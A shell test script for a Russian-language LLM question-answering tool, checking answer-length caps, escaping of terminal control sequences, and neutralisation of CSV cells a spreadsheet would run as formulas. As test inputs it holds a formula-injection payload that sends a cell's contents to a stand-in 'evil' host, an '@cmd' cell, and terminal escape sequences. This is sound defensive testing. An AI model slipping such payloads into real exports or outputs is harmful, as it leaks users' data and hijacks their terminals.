#!/bin/sh
# What an answer may do to its readers: a model's answer is stored and
# printed at most 8,000 characters (the cut recorded), -r prints one line
# per message, terminal escapes in answers reach no terminal raw, and CSV
# cells a spreadsheet would run as formulas are neutralised (--csv-raw
# keeps them).
. "$(dirname "$0")/lib.sh"
plan 21

# --- the answer cap --------------------------------------------------------
fake_server long
VASDOM_LLM_URL=$fake_url vasdom-ask 'Расскажите всё об уборке' >"$T/long" 2>"$T/err"
check_same "a 3 MB model answer: exit 0" "0 " "$? $(cat "$T/err")"
check_same "...printed cut to 8000 characters" 8000 "$(jq -r '.response | length' "$T/long")"
check_same "...stored cut to 8000 characters" 8000 \
	"$(sqlite3 "$VASDOM_DB" "SELECT length(response) FROM exchanges ORDER BY log_id DESC LIMIT 1")"
check "...the cut recorded with the exchange" \
	sh -c "sqlite3 '$VASDOM_DB' 'SELECT model_error FROM exchanges ORDER BY log_id DESC LIMIT 1' | grep -q 'cut to 8000 characters'"
check "...and in the output" jqe '.model_error | test("cut to 8000 characters")' "$T/long"
id=$(jq -r .log_id "$T/long")
check_same "vasdom-ask's own output line is vasdom-rate's input" "$id 5" \
	"$(jq -c '. + {rating: 5}' "$T/long" | vasdom-rate 2>&1 | jq -r '"\(.log_id) \(.rating)"')"

# --- -r: one line per message -------------------------------------------------
nl='Строка один
Строка два\конец'
fake_server ok --answer "$nl"
printf 'Первый вопрос\nВторой вопрос\n' | VASDOM_LLM_URL=$fake_url vasdom-ask -r >"$T/r"
check_same "-r: one line per message" 2 "$(wc -l <"$T/r" | tr -d ' ')"
check_same "...newline and backslash escaped" 'Строка один\nСтрока два\\конец' "$(head -n 1 "$T/r")"

# --- terminal escapes ------------------------------------------------------------
esc=$(printf 'Ответ\033]0;pwned\007 и \033[2J конец')
fake_server ok --answer "$esc"
VASDOM_LLM_URL=$fake_url vasdom-ask -r 'Вопрос с подвохом' >"$T/e"
check "-r: no ESC or BEL byte written" sh -c "! grep -q \"\$(printf '\\033')\" '$T/e' && ! grep -q \"\$(printf '\\007')\" '$T/e'"
check_same "...shown escaped" 'Ответ\x1b]0;pwned\x07 и \x1b[2J конец' "$(cat "$T/e")"
# on a terminal (script(1) gives a pty): CSV and -r alike
vasdom-embed -q >/dev/null
script -qec "vasdom-similar -f csv -t 'Вопрос с подвохом'; vasdom-ask -r 'Вопрос с подвохом'" /dev/null </dev/null >"$T/tty" 2>&1
check "on a terminal: the answer reached it" grep -q 'pwned' "$T/tty"
check "...with no ESC byte" sh -c "! grep -q \"\$(printf '\\033')\" '$T/tty'"
vasdom-similar -f csv -t 'Вопрос с подвохом' >"$T/file.csv"
check "CSV to a file: the text kept as it is" grep -q "$(printf '\033')]0;pwned" "$T/file.csv"

# --- CSV formulas ------------------------------------------------------------------
for f in '=HYPERLINK("http://evil/?x="&A1)' '+1+1' '-2+3' '@SUM(A1:A9)'; do
	jq -nc --arg m "$f" '{message: $m, response: $m, rating: 5}'
done | vasdom-ask --record >/dev/null
jq -nc '{message: "\tтаб", response: "\rвозврат", rating: 5}' | vasdom-ask --record >/dev/null
vasdom-export -f csv >"$T/x.csv"
# the cells of a CSV file that a spreadsheet would run as formulas
formulas() {
	python3 -c 'import csv,sys
for r in csv.reader(open(sys.argv[1], newline="")):
    for c in r:
        try: float(c); continue      # a number is a number
        except ValueError: pass
        if c[:1] in ("=", "+", "-", "@", "\t", "\r"): print(c)' "$1"
}
check_same "export -f csv: no cell starts with = + - @ tab or CR" "" "$(formulas "$T/x.csv")"
check "...they begin with ' instead" grep -q "'=HYPERLINK" "$T/x.csv"
vasdom-export -f csv --csv-raw >"$T/raw.csv"
check "--csv-raw: written as they are" grep -q '"=HYPERLINK' "$T/raw.csv"
vasdom-ask -f csv --record >"$T/a.csv" <<'IN'
{"message":"=1+2","response":"@cmd"}
IN
check_same "ask -f csv neutralises" "" "$(formulas "$T/a.csv")"
vasdom-similar -f csv -t '=1+2' >"$T/s.csv"
check "similar -f csv: the query found" grep -q "'=1+2" "$T/s.csv"
check_same "...neutralised" "" "$(formulas "$T/s.csv")"
vasdom-stats -f csv --csv-raw >/dev/null
check_same "stats takes --csv-raw" 0 $?
check "and so does rate" sh -c "echo 1 5 | vasdom-rate -f csv --csv-raw >/dev/null"

done_testing
